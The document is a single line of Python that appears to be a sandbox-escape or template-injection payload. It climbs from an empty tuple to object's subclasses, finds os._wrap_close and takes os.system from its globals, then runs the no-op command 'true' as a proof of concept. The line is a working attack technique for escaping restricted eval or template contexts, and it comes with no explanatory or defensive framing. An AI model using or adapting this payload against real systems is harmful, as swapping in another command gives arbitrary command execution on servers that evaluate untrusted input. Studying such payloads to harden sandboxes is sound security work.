[c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("true")
